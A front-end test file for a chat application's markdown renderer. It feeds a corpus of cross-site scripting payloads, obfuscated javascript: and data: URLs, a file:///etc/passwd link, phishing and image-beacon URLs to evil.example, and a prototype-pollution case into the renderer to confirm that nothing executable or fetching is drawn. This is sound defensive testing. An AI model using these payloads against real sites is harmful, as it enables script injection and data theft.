import { expect } from '@open-wc/testing';
import { render } from 'lit';
import { parse, type Parsed } from '../../../src/elements/nality-chat/markdown/blocks.ts';
import { Markdown } from '../../../src/elements/nality-chat/markdown/view.ts';

/** What the text becomes, as nodes. */
function draw(text: string): HTMLElement {
  const host = document.createElement('div');
  render(
    new Markdown().render(text, () => undefined),
    host,
  );
  return host;
}

const ALLOWED = new Set(
  'P H4 DIV PRE CODE BUTTON svg path UL OL LI SPAN BLOCKQUOTE HR EM STRONG DEL BR A BDI'.split(' '),
);
const PROTOCOLS = new Set(['https:', 'http:', 'mailto:', 'tel:']);

/** What of it could do harm. */
function harmIn(host: HTMLElement): readonly string[] {
  return [...host.querySelectorAll('*')].flatMap((node) => {
    const harm = ALLOWED.has(node.nodeName) ? [] : [node.nodeName];
    for (const { name, value } of node.attributes)
      if (/^on|^src|^style|^srcdoc|^formaction/i.test(name)) harm.push(`${name}=${value}`);
    if (node instanceof HTMLAnchorElement && !PROTOCOLS.has(node.protocol)) harm.push(node.href);
    return harm;
  });
}

const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><use href="data:x"/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<!-- --><details open ontoggle=alert(1)>',
  '</p></div><math><mtext></mtext></math>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  '<?lit$123$?><!--?lit$123$-->',
];
const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://x/1',
  'file:///etc/passwd',
  'https://bank@evil.example',
  '//evil.example',
  '/\\evil.example',
  'x" onmouseover="alert(1)',
];
const FORMS = [
  (url: string) => `[x](${url})`,
  (url: string) => `[x](<${url}>)`,
  (url: string) => `![x](${url})`,
  (url: string) => `[![x](${url})](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `[x]: ${url}\n\n[x]`,
  (url: string) => `**[*x*](${url} "t")**`,
];
const CORPUS = [
  ...MARKUP,
  ...MARKUP.flatMap((text) => [
    `**${text}**`,
    `> ${text}`,
    `- ${text}`,
    `# ${text}`,
    `[${text}](https://a.example)`,
    `\`${text}`,
    `\`\`\`${text}\n${text}`,
  ]),
  ...URLS.flatMap((url) => FORMS.map((form) => form(url))),
];

describe('Markdown', () => {
  it(`draws none of ${CORPUS.length} hostile texts as anything but text and harmless nodes`, () => {
    for (const text of CORPUS) expect(harmIn(draw(text)), text).to.deep.equal([]);
  });

  it('says all of a hostile text, so that nothing is hidden', () => {
    for (const text of MARKUP)
      expect(draw(text).textContent!.replace(/\s/g, '')).to.equal(text.replace(/\s/g, ''));
  });

  it('draws the same however a text is cut while it comes, and never harm on the way', () => {
    for (const text of CORPUS) {
      const grown = new Markdown();
      const host = document.createElement('div');
      for (let end = 1; end <= text.length; end += 3) {
        render(
          grown.render(text.slice(0, end), () => undefined),
          host,
        );
        expect(harmIn(host), text.slice(0, end)).to.deep.equal([]);
      }
      render(
        grown.render(text, () => undefined),
        host,
      );
      expect(host.innerText, text).to.equal(draw(text).innerText);
    }
  });

  it('parses a growing text to the same blocks as the whole', () => {
    const alphabet = [
      'a',
      'b c',
      '*',
      '**',
      '_',
      '`',
      '```',
      '\n',
      '\n\n',
      '- ',
      '1. ',
      '> ',
      '# ',
      '[',
      '](',
      ')',
      '~~',
      '---',
      '  ',
      '\\',
      '2',
    ];
    let seed = 42;
    const random = (below: number): number => (seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff) % below;
    for (let run = 0; run < 2_000; run++) {
      const text = Array.from({ length: 1 + random(40) }, () => alphabet[random(alphabet.length)]).join('');
      let parsed: Parsed | undefined;
      for (let end = 0; end < text.length;) parsed = parse(text.slice(0, (end += 1 + random(4))), parsed);
      expect(parsed, text).to.deep.equal(parse(text));
    }
  });

  it('keeps the blocks that are complete, so that a long answer costs no more per piece than a short one', () => {
    const head = Array.from({ length: 500 }, (_, i) => `Paragraph ${i}.`).join('\n\n');
    const before = parse(head);
    const after = parse(`${head} And more.`, before);
    expect(after.blocks.filter((block, i) => block === before.blocks[i])).to.have.length(498);
  });

  it('is done with any text, however long and however nested, before anybody loses patience', () => {
    const units = [
      '*',
      '_a',
      '*a **b ',
      '` ',
      '[',
      '[a](',
      '](',
      '> ',
      '- ',
      '# # ',
      'https://a....',
      '```\n```\n',
      '\n\na',
      '~~a',
      '[*',
      '- a\n  - b\n',
      '<https://a',
      '\\',
      '😀',
      'Z͑ͫ',
    ];
    for (const unit of units) {
      expect(parse(unit.repeat(300_000 / unit.length)).blocks.length, unit).to.be.above(0);
    }
  });

  it('nests no deeper than it must', () => {
    const depth = (node: Element): number => 1 + Math.max(0, ...[...node.children].map(depth));
    expect(depth(draw('> '.repeat(1_000) + 'x'))).to.be.below(20);
    expect(depth(draw('*a **b '.repeat(1_000) + '* **'.repeat(1_000)))).to.be.below(100);
  });

  for (const [text, html] of [
    ['a *b* **c** `d` ~~e~~', 'a b c d e'],
    ['snake_case_name', 'snake_case_name'],
    ['2 * 3 * 4', '2 * 3 * 4'],
    ['\\*not\\*', '*not*'],
    ['one\ntwo', 'one\ntwo'],
    ['3. three\n4. four', 'three\nfour'],
  ] as const)
    it(`reads “${text.replace('\n', '↵')}” as it is meant`, () => {
      const host = draw(text);
      document.body.append(host);
      expect(host.innerText.trim().replace(/\n+/g, '\n')).to.equal(html);
      host.remove();
    });

  it('shows where a link leads, unless it says just that', () => {
    const hosts = (text: string): (string | null)[] =>
      [...draw(text).querySelectorAll('.host')].map(({ textContent }) => textContent);
    expect(hosts('[the bank](https://evil.example/bank)')).to.deep.equal(['(evil.example)']);
    expect(hosts('[https://bank.example](https://evil.example)')).to.deep.equal(['(evil.example)']);
    expect(hosts('https://good.example/page')).to.deep.equal([]);
    expect(hosts('https://аpple.com')).to.deep.equal(['(xn--pple-43d.com)']);
  });

  it('fetches no picture: it is a link that one may follow', () => {
    const host = draw('![a beacon](https://evil.example/?q=secret)');
    expect(host.querySelector('img')).to.equal(null);
    expect(host.querySelector('a')!.textContent).to.equal('a beacon');
  });

  it('is not led astray by what a page has put on every object', () => {
    const polluted = Object.prototype as Record<string, unknown>;
    Object.assign(polluted, { type: 'link', href: 'javascript:alert(1)', children: ['x'] });
    try {
      expect(harmIn(draw('- a\n- *b* `c`'))).to.deep.equal([]);
    } finally {
      for (const name of ['type', 'href', 'children']) Reflect.deleteProperty(polluted, name);
    }
  });
});
